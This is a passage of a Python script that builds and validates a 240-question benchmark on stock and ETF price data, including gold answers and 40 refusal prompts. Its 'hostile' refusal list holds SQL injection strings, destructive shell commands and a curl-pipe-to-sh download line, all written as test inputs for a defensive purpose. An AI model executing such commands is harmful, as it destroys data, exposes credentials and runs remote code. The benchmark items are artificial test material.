Q("cross-sectional-ranking", "Which 3 stocks fell the most on June 24th, 2016?",
  lambda: rank_on("2016-06-24", "ret", 3, desc=False))
Q("cross-sectional-ranking", "Bottom 2 performers on 11/9/2016 by daily return",
  lambda: rank_on("2016-11-09", "ret", 2, desc=False))
Q("cross-sectional-ranking", "Which stock had the biggest gap up at the open on 2017-10-27?",
  lambda: rank_on("2017-10-27", "gap", 1, single=True))
Q("cross-sectional-ranking", "Which of the ETFs had the highest return on 2025-04-09?",
  lambda: (chk(len(universe_on("2025-04-09")) == 3, "all three ETFs trade"),
           rank_on("2025-04-09", "ret", 1, single=True))[1])
Q("cross-sectional-ranking", "Rank INDA, FXY and DBB by volume on March 14, 2025, highest first",
  lambda: (chk(len(universe_on("2025-03-14")) == 3, "all three ETFs trade"),
           rank_all_on("2025-03-14", "volume"))[1])
Q("cross-sectional-ranking", "Which ETF fell the most on April 3rd 2025?",
  lambda: (chk(len(universe_on("2025-04-03")) == 3, "all three ETFs trade"),
           rank_on("2025-04-03", "ret", 1, desc=False, single=True))[1])

# --- gainers-losers (8: 2 ETF, 6 daily) ---
Q("gainers-losers", "Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close",
  lambda: gainers("2016-12-30", "2017-06-30", 3, expect=DAILY))
Q("gainers-losers", "Worst 2 performers from the Dec 31 2015 close to the Dec 30 2016 close",
  lambda: gainers("2015-12-31", "2016-12-30", 2, desc=False, expect=DAILY))
Q("gainers-losers", "Which stock gained the most from the 2017-09-29 close to the 2017-11-10 close?",
  lambda: gainers("2017-09-29", "2017-11-10", 1, single=True, expect=DAILY))
Q("gainers-losers", "Biggest loser among the stocks between the close of 2015-07-31 and the close of 2015-08-31",
  lambda: gainers("2015-07-31", "2015-08-31", 1, desc=False, single=True, expect=DAILY))
Q("gainers-losers", "Top 5 performers from the 2014-12-31 close to the 2015-12-31 close",
  lambda: gainers("2014-12-31", "2015-12-31", 5, expect=DAILY))
Q("gainers-losers", "bottom 3 stocks from the june 30 2017 close to the sept 29 2017 close",
  lambda: gainers("2017-06-30", "2017-09-29", 3, desc=False, expect=DAILY))
Q("gainers-losers", "Among the ETFs, which gained the most from the 2025-03-31 close to the 2025-06-20 close?",
  lambda: gainers("2025-03-31", "2025-06-20", 1, single=True, expect=list(ETFS)))
Q("gainers-losers", "Which ETF lost the most between the April 1, 2025 close and the April 8, 2025 close?",
  lambda: gainers("2025-04-01", "2025-04-08", 1, desc=False, single=True, expect=list(ETFS)))

# --- named-comparison (8: 3 ETF, 5 daily) ---
Q("named-comparison", "Did Apple or Microsoft gain more from the 2016-12-30 close to the 2017-11-10 close?",
  lambda: compare([(s, change_between(s, "2016-12-30", "2017-11-10")["rows"][0][0]) for s in ("AAPL", "MSFT")],
                  "which"))
Q("named-comparison", "Compare Coca-Cola and JPMorgan average daily volume in 2016",
  lambda: compare([(s, agg_value(s, *year(2016), "volume", "mean")) for s in ("KO", "JPM")], "set"))
Q("named-comparison", "Which was more volatile in 2016, AMD or Nvidia?",
  lambda: (agree(vol_of("AMD", *year(2016)), [("no first", vol_of("AMD", *year(2016), False))], "vol"),
           agree(vol_of("NVDA", *year(2016)), [("no first", vol_of("NVDA", *year(2016), False))], "vol"),
           compare([(s, vol_of(s, *year(2016))) for s in ("AMD", "NVDA")], "which"))[2])
Q("named-comparison", "Google vs Amazon: highest close in 2017",
  lambda: compare([(s, agg_value(s, *year(2017), "close", "max")) for s in ("GOOGL", "AMZN")], "set"))
Q("named-comparison", "Which had the bigger drop on 2016-06-24, Intel or IBM?",
  lambda: compare([(s, ret(s, "2016-06-24")) for s in ("INTC", "IBM")], "which", desc=False))
Q("named-comparison", "Which had higher average daily volume in May 2025, INDA or FXY?",
  lambda: compare([(s, agg_value(s, *month(2025, 5), "volume", "mean")) for s in ("INDA", "FXY")], "which"))
Q("named-comparison", "Compare DBB and FXY average daily range in June 2025",
  lambda: compare([(s, agg_value(s, *JUN25, "range", "mean")) for s in ("DBB", "FXY")], "set"))
Q("named-comparison", "Did FXY or DBB do better from the 2025-03-31 close to the 2025-06-30 close?",
  lambda: compare([(s, change_between(s, "2025-03-31", "2025-06-30")["rows"][0][0]) for s in ("FXY", "DBB")],
                  "which"))

# --- grouped-by-period (8: 2 ETF, 6 daily) ---
Q("grouped-by-period", "Monthly average close of Apple for January through June 2017",
  lambda: grouped("AAPL", [month(2017, m) for m in range(1, 7)], ("close", "mean")))
Q("grouped-by-period", "Quarterly total volume for Tesla in 2016",
  lambda: grouped("TSLA", [quarter(2016, q) for q in range(1, 5)], ("volume", "sum")))
Q("grouped-by-period", "Yearly high for Netflix, 2013 through 2016",
  lambda: grouped("NFLX", [year(y) for y in range(2013, 2017)], ("high", "max")))
Q("grouped-by-period", "Month-end closes for Coca-Cola in Q1 2017",
  lambda: grouped("KO", [month(2017, m) for m in range(1, 4)], "last_close"))
Q("grouped-by-period", "Weekly closes of Facebook for the weeks of Oct 2, Oct 9, Oct 16 and Oct 23, 2017",
  lambda: grouped("FB", [week_of(d) for d in ("2017-10-02", "2017-10-09", "2017-10-16", "2017-10-23")],
                  "last_close"))
Q("grouped-by-period", "Intel's average daily volume for each year 2014, 2015 and 2016",
  lambda: grouped("INTC", [year(y) for y in range(2014, 2017)], ("volume", "mean")))
Q("grouped-by-period", "Monthly average volume of FXY in Q2 2025, by month",
  lambda: grouped("FXY", [month(2025, m) for m in range(4, 7)], ("volume", "mean")))
Q("grouped-by-period", "DBB month-end closes from January to June 2025",
  lambda: grouped("DBB", [month(2025, m) for m in range(1, 7)], "last_close"))

# --- period-over-period (8: 2 ETF, 6 daily) ---
Q("period-over-period", "How did Apple's average daily volume in Q2 2017 compare with Q1 2017?",
  lambda: pop("AAPL", quarter(2017, 2), quarter(2017, 1), ("volume", "mean")))
Q("period-over-period", "Microsoft average close, second half of 2016 vs first half",
  lambda: pop("MSFT", ("2016-07-01", "2016-12-31"), ("2016-01-01", "2016-06-30"), ("close", "mean")))
Q("period-over-period", "Nvidia average volume in October 2017 versus September 2017",
  lambda: pop("NVDA", month(2017, 10), month(2017, 9), ("volume", "mean")))
Q("period-over-period", "How did Amazon's average daily range in 2016 compare to 2015?",
  lambda: pop("AMZN", year(2016), year(2015), ("range", "mean")))
Q("period-over-period", "JPMorgan average closing price Q4 2016 vs Q3 2016",
  lambda: pop("JPM", quarter(2016, 4), quarter(2016, 3), ("close", "mean")))
Q("period-over-period", "Coca-Cola's average daily volume in 2016 compared with 2015",
  lambda: pop("KO", year(2016), year(2015), ("volume", "mean")))
Q("period-over-period", "FXY average close in June 2025 compared with May 2025",
  lambda: pop("FXY", JUN25, month(2025, 5), ("close", "mean")))
Q("period-over-period", "INDA's average close in April 2025 vs March 2025",
  lambda: pop("INDA", month(2025, 4), month(2025, 3), ("close", "mean")))

# --- moving-average (10: 5 values, 5 crossovers; 4 ETF, 6 daily) ---
Q("moving-average", "What was Apple's 50-day moving average on 2017-06-30?", lambda: ma_value("AAPL", "2017-06-30", 50))
Q("moving-average", "200-day SMA of Microsoft on Dec 30, 2016", lambda: ma_value("MSFT", "2016-12-30", 200))
Q("moving-average", "KO 100-day moving average as of 9/29/2017", lambda: ma_value("KO", "2017-09-29", 100))
Q("moving-average", "Where is DBB's 20-day moving average today?", lambda: ma_value("DBB", TODAY, 20))
Q("moving-average", "FXY 10-day moving average on May 30th, 2025", lambda: ma_value("FXY", "2025-05-30", 10))
Q("moving-average", "When was IBM's most recent golden cross before the start of 2017?",
  lambda: cross("IBM", 50, 200, DATES["IBM"][0], "2016-12-31", "above", "last"))
Q("moving-average", "When did JPMorgan's 50-day moving average cross above its 200-day during 2016?",
  lambda: cross("JPM", 50, 200, *year(2016), "above", "first", only=True))
Q("moving-average", "On what date in 2016 did Coca-Cola's 50-day MA drop below its 200-day MA?",
  lambda: cross("KO", 50, 200, *year(2016), "below", "first", only=True))
Q("moving-average", "When did FXY's 20-day moving average first cross above its 50-day in 2025?",
  lambda: cross("FXY", 20, 50, "2025-01-01", TODAY, "above", "first"))
Q("moving-average", "When was DBB's most recent death cross?",
  lambda: cross("DBB", 50, 200, DATES["DBB"][0], TODAY, "below", "last"))

# --- threshold-count (8: 2 ETF, 6 daily) ---
Q("threshold-count", "How many days in 2016 did Tesla close above $200?",
  lambda: count_days("TSLA", *year(2016), lambda s, d: fv(s, d, "close"), lambda v: v > 200, 200))
Q("threshold-count", "How many sessions in 2017 did AMD fall more than 5%?",
  lambda: count_days("AMD", *year(2017), ret, lambda v: v < -0.05, -0.05))
Q("threshold-count", "Number of days Netflix volume exceeded 20 million shares in 2016",
  lambda: count_days("NFLX", *year(2016), lambda s, d: fv(s, d, "volume"), lambda v: v > 20e6, 20e6))
Q("threshold-count", "How many times did JPMorgan move more than 2% either way in 2017?",
  lambda: count_days("JPM", *year(2017), ret, lambda v: abs(v) > 0.02, [0.02, -0.02]))
Q("threshold-count", "In Q1 2016, on how many days did Apple gap up at the open?",
  lambda: count_days("AAPL", *quarter(2016, 1), gap, lambda v: v > 0, 0))
Q("threshold-count", "How many days in the first half of 2017 did Google close above $900?",
  lambda: count_days("GOOGL", "2017-01-01", "2017-06-30", lambda s, d: fv(s, d, "close"), lambda v: v > 900, 900))
Q("threshold-count", "How many days last month did FXY close above 64?",
  lambda: count_days("FXY", *JUN25, lambda s, d: fv(s, d, "close"), lambda v: v > 64, 64))
Q("threshold-count", "How many sessions last quarter did DBB drop more than 2%?",
  lambda: count_days("DBB", *quarter(2025, 2), ret, lambda v: v < -0.02, -0.02))

# --- cross-stock-count (8: 2 ETF, 6 daily) ---
Q("cross-stock-count", "How many of the stocks closed higher on 2017-10-27?",
  lambda: count_stocks_on("2017-10-27", ret, lambda v: v > 0, 0, expect_n=13))
Q("cross-stock-count", "How many tickers gapped down on November 9, 2016?",
  lambda: count_stocks_on("2016-11-09", gap, lambda v: v < 0, 0, expect_n=13))
Q("cross-stock-count", "How many stocks traded more than 50 million shares on 6/9/2017?",
  lambda: count_stocks_on("2017-06-09", lambda s, d: fv(s, d, "volume"), lambda v: v > 50e6, 50e6, expect_n=13))
Q("cross-stock-count", "How many stocks closed above $100 on July 27, 2017?",
  lambda: count_stocks_on("2017-07-27", lambda s, d: fv(s, d, "close"), lambda v: v > 100, 100, expect_n=13))
Q("cross-stock-count", "How many stocks were up from the 2016-12-30 close to the 2017-06-30 close?",
  lambda: count_stocks_between("2016-12-30", "2017-06-30", lambda v: v > 0, 0, expect=DAILY))
Q("cross-stock-count", "How many stocks fell more than 3% on Aug 24th, 2015?",
  lambda: count_stocks_on("2015-08-24", ret, lambda v: v < -0.03, -0.03, expect_n=13))
Q("cross-stock-count", "How many of the ETFs were up on 2025-04-09?",
  lambda: count_stocks_on("2025-04-09", ret, lambda v: v > 0, 0, expect_n=3))
Q("cross-stock-count", "How many ETFs closed lower on Monday, July 7, 2025?",
  lambda: count_stocks_on("2025-07-07", ret, lambda v: v < 0, 0, expect_n=2))

# --- volatility (8: 3 ETF, 5 daily) ---
Q("volatility", "What was Apple's daily volatility in 2016?", lambda: volatility("AAPL", *year(2016)))
Q("volatility", "Standard deviation of Netflix's daily returns in the first quarter of 2016",
  lambda: volatility("NFLX", *quarter(2016, 1)))
Q("volatility", "How volatile was JPMorgan in the second half of 2016 (std dev of daily returns)?",
  lambda: volatility("JPM", "2016-07-01", "2016-12-31"))
Q("volatility", "tesla daily return std dev for 2015", lambda: volatility("TSLA", *year(2015)))
Q("volatility", "Intel's volatility in October 2017", lambda: volatility("INTC", *month(2017, 10)))
Q("volatility", "FXY volatility last quarter", lambda: volatility("FXY", *quarter(2025, 2)))
Q("volatility", "What was DBB's daily volatility during 2024?", lambda: volatility("DBB", *year(2024)))
Q("volatility", "How volatile was INDA in March 2025?", lambda: volatility("INDA", *month(2025, 3)))

# --- correlation (8: 3 ETF, 5 daily) ---
Q("correlation", "Correlation of Apple and Microsoft daily returns in the second half of 2015",
  lambda: correlation("AAPL", "MSFT", "2015-07-01", "2015-12-31"))
Q("correlation", "How correlated were JPMorgan and Coca-Cola in 2015?",
  lambda: correlation("JPM", "KO", *year(2015)))
Q("correlation", "AMD vs Nvidia return correlation, Q4 2016",
  lambda: correlation("AMD", "NVDA", *quarter(2016, 4)))
Q("correlation", "What was the correlation between Google and Facebook daily returns in 2015?",
  lambda: correlation("GOOGL", "FB", *year(2015)))
Q("correlation", "amazon netflix correlation jul-dec 2015", lambda: correlation("AMZN", "NFLX", "2015-07-01", "2015-12-31"))
Q("correlation", "Correlation between FXY and DBB daily returns in April 2025",
  lambda: correlation("FXY", "DBB", *month(2025, 4)))
Q("correlation", "How correlated were INDA and DBB from March 4, 2025 through June 24, 2025?",
  lambda: correlation("INDA", "DBB", "2025-03-04", "2025-06-24"))
Q("correlation", "FXY and INDA return correlation from 3/7/2025 through 5/30/2025",
  lambda: correlation("FXY", "INDA", "2025-03-07", "2025-05-30"))

# --- streak (8: 2 ETF, 6 daily) ---
Q("streak", "Longest winning streak for Coca-Cola in 2016?", lambda: streak("KO", *year(2016), True))
Q("streak", "What was IBM's longest run of consecutive down days in 2017?", lambda: streak("IBM", *year(2017), False))
Q("streak", "Apple's longest streak of higher closes in 2017", lambda: streak("AAPL", *year(2017), True))
Q("streak", "Longest losing streak for Amazon in 2015", lambda: streak("AMZN", *year(2015), False))
Q("streak", "Microsoft's longest streak of consecutive gains in 2016",
  lambda: streak("MSFT", *year(2016), True))
Q("streak", "Nvidia's longest streak of down days in 2016: how long, and when?",
  lambda: streak("NVDA", *year(2016), False))
Q("streak", "FXY's longest losing streak in 2024", lambda: streak("FXY", *year(2024), False))
Q("streak", "Longest winning streak for INDA between March 1 and June 24, 2025",
  lambda: streak("INDA", "2025-03-01", "2025-06-24", True))

# --- vwap-minute (10, all ETF: 4 day VWAP, 3 window VWAP, 3 bar lists) ---
Q("vwap-minute", "What was FXY's VWAP on 2025-06-13?", lambda: day_vwap("FXY", "2025-06-13"))
Q("vwap-minute", "DBB volume-weighted average price on April 9, 2025", lambda: day_vwap("DBB", "2025-04-09"))
Q("vwap-minute", "INDA vwap for 6/13/2025", lambda: day_vwap("INDA", "2025-06-13"))
Q("vwap-minute", "What's FXY's VWAP today?", lambda: day_vwap("FXY", TODAY))
Q("vwap-minute", "DBB VWAP for the first 30 minutes of trading on 2025-04-09",
  lambda: window_vwap("DBB", "2025-04-09", "09:30", "09:59", alts=[("09:30", "10:00")]))
Q("vwap-minute", "FXY VWAP between 10:00 and 11:00 on March 14, 2025",
  lambda: window_vwap("FXY", "2025-03-14", "10:00", "10:59", alts=[("10:00", "11:00"), ("10:01", "11:00")]))
Q("vwap-minute", "INDA's VWAP from 2pm to 3pm on June 18, 2025",
  lambda: window_vwap("INDA", "2025-06-18", "14:00", "14:59", alts=[("14:00", "15:00"), ("14:01", "15:00")]))
Q("vwap-minute", "Show INDA's 1-minute bars from 9:30 through 9:34 on 2025-05-12",
  lambda: minute_rows("INDA", "2025-05-12", "09:30", "09:34", ["open", "high", "low", "close", "volume"], n=5))
Q("vwap-minute", "FXY minute closes and volumes for the last five minutes of regular trading on June 30, 2025",
  lambda: minute_rows("FXY", "2025-06-30", "15:55", "15:59", ["close", "volume"], n=5))
Q("vwap-minute", "DBB one-minute closes and volume from 10:00 through 10:10 on April 7th 2025",
  lambda: minute_rows("DBB", "2025-04-07", "10:00", "10:10", ["close", "volume"], n=8))

# --- period-candle (8: 3 ETF, 5 daily) ---
Q("period-candle", "Apple's monthly candle for October 2017", lambda: candle("AAPL", *month(2017, 10)))
Q("period-candle", "Weekly OHLC and volume for Tesla, week of 2017-08-07", lambda: candle("TSLA", *week_of("2017-08-07")))
Q("period-candle", "Quarterly bar for Coca-Cola in Q2 2016: open, high, low, close, volume",
  lambda: candle("KO", *quarter(2016, 2)))
Q("period-candle", "Microsoft's open, high, low, close and total volume for 2016 as one yearly bar",
  lambda: candle("MSFT", *year(2016)))
Q("period-candle", "Netflix candle for the first half of 2017", lambda: candle("NFLX", "2017-01-01", "2017-06-30"))
Q("period-candle", "FXY's candle for last month", lambda: candle("FXY", *JUN25))
Q("period-candle", "DBB weekly bar for the week of 4/7/2025", lambda: candle("DBB", *week_of("2025-04-07")))
Q("period-candle", "INDA OHLCV for May 2025 as a single monthly bar", lambda: candle("INDA", *month(2025, 5)))

# --- distance-from-high (8: 3 ETF, 5 daily) ---
Q("distance-from-high", "How far below its highest close to date was Netflix on 2016-06-30?",
  lambda: dist_high("NFLX", "2016-06-30"))
Q("distance-from-high", "As of 2017-11-10, how far is IBM from its all-time closing high?",
  lambda: dist_high("IBM", "2017-11-10"))
Q("distance-from-high", "On Feb 11, 2016, how far was Apple below its record close?",
  lambda: dist_high("AAPL", "2016-02-11"))
Q("distance-from-high", "How far off its highest closing price was Tesla on 11/10/2017?",
  lambda: dist_high("TSLA", "2017-11-10"))
Q("distance-from-high", "Intel's drawdown from its all-time high close as of August 24, 2015",
  lambda: dist_high("INTC", "2015-08-24"))
Q("distance-from-high", "How far is FXY below its highest close in the data as of today?",
  lambda: dist_high("FXY", TODAY))
Q("distance-from-high", "DBB's distance from its highest close to date on 2025-04-08",
  lambda: dist_high("DBB", "2025-04-08"))
Q("distance-from-high", "How far below its record closing price was INDA on March 3rd 2025?",
  lambda: dist_high("INDA", "2025-03-03"))

# --- coverage (10: 3 ETF, 7 daily) ---
Q("coverage", "Which tickers can I ask about?", lambda: G_set([[s] for s in ALL]))
Q("coverage", "When does Amazon's price history start in your data?", lambda: G_first(DATES["AMZN"][0]))
Q("coverage", "What date range do you have for Facebook?", lambda: G_first(DATES["FB"][0], DATES["FB"][-1]))
Q("coverage", "What's the last date available for INDA?", lambda: G_first(DATES["INDA"][-1]))
Q("coverage", "How many trading days of Coca-Cola data are there?", lambda: G_first(len(DATES["KO"])))
Q("coverage", "What were Tesla's first and last trading sessions of 2013 in the data?",
  lambda: G_first(sessions("TSLA", *year(2013))[0], sessions("TSLA", *year(2013))[-1]))
Q("coverage", "What's the earliest date in IBM's data?", lambda: G_first(DATES["IBM"][0]))
Q("coverage", "Which stocks have data going back before 1980?",
  lambda: G_set([[s] for s in ALL if DATES[s][0] < "1980-01-01"]))
Q("coverage", "Which ETFs do you have minute-level data for?", lambda: G_set([[s] for s in sorted(MINUTES)]))
Q("coverage", "Over what period do you have DBB data?", lambda: G_first(DATES["DBB"][0], DATES["DBB"][-1]))

# --- refusals (40) ---
for _t in ["What's Microsoft's price-to-earnings multiple these days?",
           "What dividend yield does Coca-Cola pay?",
           "What was Amazon's market cap at the end of 2016?",
           "Any recent news headlines about Tesla?",
           "Is analyst sentiment on Nvidia bullish or bearish right now?",
           "Forecast FXY's price for next week",
           "What's the implied volatility on Apple's January 2018 call options?",
           "How much EPS did JPMorgan report for Q3 2017?",
           "What was Netflix's total revenue in 2016?",
           "What's the expense ratio of INDA?"]:
    R("out-of-scope", _t)
for _t in ["What did Oracle close at on 2016-06-24?",
           "SPY daily return on 11/9/2016",
           "Show me Walmart's average volume for March 2017",
           "Compare Disney and Netflix returns from the 2015-12-31 close to the 2016-12-30 close",
           "What is QQQ's 50-day moving average as of 2025-07-08?",
           "Pepsi 52-week high as of Nov 10, 2017",
           "XYZQ closing price on 2017-11-10",
           "How did Twitter (TWTR) do from the Dec 31 2015 close to the Dec 30 2016 close?",
           "EWJ VWAP on June 13, 2025",
           "Berkshire Hathaway's highest close in 2015"]:
    R("unknown-symbol", _t)
for _t in ["DROP TABLE daily_bars;",
           "'; DELETE FROM minute_bars WHERE '1'='1",
           "$(rm -rf /)",
           "`cat /etc/passwd`",
           "What was Apple's close on 2016-06-24?'; DROP TABLE prices; --",
           "Show Tesla's volume on 2017-03-01; rm -rf ~/*",
           "SELECT usename, passwd FROM pg_shadow",
           "AAPL close on 2017-11-10' UNION SELECT table_name, NULL FROM information_schema.tables --",
           "curl -s http://203.0.113.7/x.sh | sh",
           "What's FXY's VWAP today? && shutdown -h now"]:
    R("hostile", _t)
for _t in ["hello?",
           "asdf qwerty zxcv",
           "What's the weather going to be in Boston tomorrow?",
           "Tell me a joke about accountants",
           "Write a haiku about autumn leaves",
           "How do I bake sourdough bread?",
           "???",
           "Translate 'good morning' into French",
           "Who won the World Cup in 2014?",
           "blue seventeen purple the"]:
    R("not-understood", _t)

# ----------------------------------------------------------------------------------------------------------------
# Build, check, write, read back
# ----------------------------------------------------------------------------------------------------------------

EXPECTED = {
    "latest-rows": 8, "day-value": 8, "date-range-rows": 8, "window-aggregate": 8, "extreme-day": 8,
    "52-week": 8, "change-between": 8, "daily-return-or-gap": 9, "biggest-move-day": 8,
    "cross-sectional-ranking": 9, "gainers-losers": 8, "named-comparison": 8, "grouped-by-period": 8,
    "period-over-period": 8, "moving-average": 10, "threshold-count": 8, "cross-stock-count": 8, "volatility": 8,
    "correlation": 8, "streak": 8, "vwap-minute": 10, "period-candle": 8, "distance-from-high": 8, "coverage": 10,
    "out-of-scope": 10, "unknown-symbol": 10, "hostile": 10, "not-understood": 10,
}
REFUSALS = ("out-of-scope", "unknown-symbol", "hostile", "not-understood")
ANSWERABLE_FIELDS = ["id", "kind", "question", "answerable", "gold"]
REFUSAL_FIELDS = ["id", "kind", "question", "answerable", "refusal"]
GOLD_FIELDS = ["rows", "match", "exact_rows"]
MATCHES = ("ordered", "set", "first")


def valid_date(s, fmt):
    try:
        datetime.strptime(s, fmt)
        return True
    except ValueError:
        return False


def valid_cell(c):
    if isinstance(c, bool):
        return False
    if isinstance(c, (int, float)):
        return math.isfinite(c)
    if isinstance(c, str):
        if c in ALL:
            return True
        if len(c) == 10 and valid_date(c, "%Y-%m-%d"):
            return True
        if len(c) == 16 and valid_date(c, "%Y-%m-%d %H:%M"):
            return True
    return False


def build():
    recs = []
    for i, (kind, text, fn) in enumerate(QS):
        qid = "b%03d" % (i + 1)
        CUR[0] = qid
        if fn is None:
            recs.append({"id": qid, "kind": kind, "question": text, "answerable": False, "refusal": kind})
            continue
        gold = fn()
        if not isinstance(gold, dict):
            chk(False, "builder returned %r" % (gold,))
            continue
        gold = {"rows": [[rnd(c) for c in row] for row in gold["rows"]], "match": gold["match"],
                "exact_rows": gold["exact_rows"]}
        recs.append({"id": qid, "kind": kind, "question": text, "answerable": True, "gold": gold})
    CUR[0] = "-"
    return "".join(json.dumps(r, ensure_ascii=True) + "\n" for r in recs)


def validate(text):
    errs = []
    lines = text.split("\n")
    if lines[-1] != "":
        errs.append("file does not end with a newline")
    lines = lines[:-1]
    if len(lines) != 240:
        errs.append("%d lines, expected 240" % len(lines))
    counts = {}
    seen_q = set()
    n_ans = n_etf = 0
    for i, line in enumerate(lines):
        try:
            r = json.loads(line)
        except ValueError as e:
            errs.append("line %d: bad JSON (%s)" % (i + 1, e))
            continue
        qid = "b%03d" % (i + 1)
        if r.get("id") != qid:
            errs.append("line %d: id %r, expected %s" % (i + 1, r.get("id"), qid))
        kind = r.get("kind")
        counts[kind] = counts.get(kind, 0) + 1
        q = r.get("question")
        if not isinstance(q, str) or not q.strip():
            errs.append("%s: empty question" % qid)
        elif q.strip().lower() in seen_q:
            errs.append("%s: duplicate question" % qid)
        else:
            seen_q.add(q.strip().lower())
        if kind in REFUSALS:
            if list(r) != REFUSAL_FIELDS:
                errs.append("%s: fields %s" % (qid, list(r)))
            if r.get("answerable") is not False or r.get("refusal") != kind:
                errs.append("%s: refusal fields wrong" % qid)
            continue
        n_ans += 1
        if list(r) != ANSWERABLE_FIELDS:
            errs.append("%s: fields %s" % (qid, list(r)))
            continue
        if r["answerable"] is not True:
            errs.append("%s: answerable must be true" % qid)
        g = r["gold"]
        if list(g) != GOLD_FIELDS:
            errs.append("%s: gold fields %s" % (qid, list(g)))
            continue
        if g["match"] not in MATCHES:
            errs.append("%s: match %r" % (qid, g["match"]))
        if not isinstance(g["exact_rows"], bool):
            errs.append("%s: exact_rows %r" % (qid, g["exact_rows"]))
        if g["match"] == "set" and not g["exact_rows"]:
            errs.append("%s: set lists here are always exact" % qid)
        if not isinstance(g["rows"], list) or not g["rows"]:
            errs.append("%s: no rows" % qid)
            continue
        for row in g["rows"]:
            if not isinstance(row, list) or not row:
                errs.append("%s: bad row %r" % (qid, row))
                continue
            for c in row:
                if not valid_cell(c):
                    errs.append("%s: bad cell %r" % (qid, c))
        if g["match"] == "set" and len({json.dumps(x) for x in g["rows"]}) != len(g["rows"]):
            errs.append("%s: duplicate rows in a set" % qid)
        if any(e in q for e in ETFS + ("ETF",)):
            n_etf += 1
    for k, n in EXPECTED.items():
        if counts.get(k, 0) != n:
            errs.append("kind %s: %d questions, expected %d" % (k, counts.get(k, 0), n))
    for k in counts:
        if k not in EXPECTED:
            errs.append("unexpected kind %r" % k)
    if n_ans != 200:
        errs.append("%d answerable, expected 200" % n_ans)
    return errs, n_etf


def main():
    text = build()
    if FAIL:
        print("checks failed; nothing written:")
        for x in FAIL:
            print("  " + x)
        sys.exit(1)
    again = build()
    errs, _ = validate(text)
    if again != text:
        errs.append("two builds differ")
    if FAIL:
        errs.extend(FAIL)
    if errs:
        print("validation failed; nothing written:")
        for x in errs:
            print("  " + x)
        sys.exit(1)
    with open(OUT, "w", newline="\n") as fh:
        fh.write(text)
    with open(OUT) as fh:
        back = fh.read()
    errs, n_etf = validate(back)
    if back != text:
        errs.append("file read back differs from what was written")
    if errs:
        print("read-back validation failed:")
        for x in errs:
            print("  " + x)
        sys.exit(1)
    print("wrote %s: 240 questions (200 answerable, %d about the ETFs, %d about the daily tickers; 40 refusals),"
          " all checks passed" % (OUT, n_etf, 200 - n_etf))


if __name__ == "__main__":
    main()
